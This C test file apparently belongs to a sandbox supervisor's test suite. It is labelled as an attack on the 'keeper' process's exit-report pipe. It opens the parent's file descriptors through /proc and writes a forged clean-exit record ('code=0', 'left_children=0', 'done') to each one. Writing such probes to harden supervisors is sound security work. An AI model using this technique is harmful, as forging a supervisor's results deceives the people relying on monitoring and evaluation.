/*
 * attack: the pipe through which the keeper says how the program ended
 * fails: works
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    for (int fd = 0; fd < 16; fd++) {
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", getppid(), fd);
        int channel = open(path, O_WRONLY);
        if (channel != -1) {
            dprintf(channel, "end=exit\ncode=0\nleft_children=0\ndone\n");
        }
    }
    return 0;
}
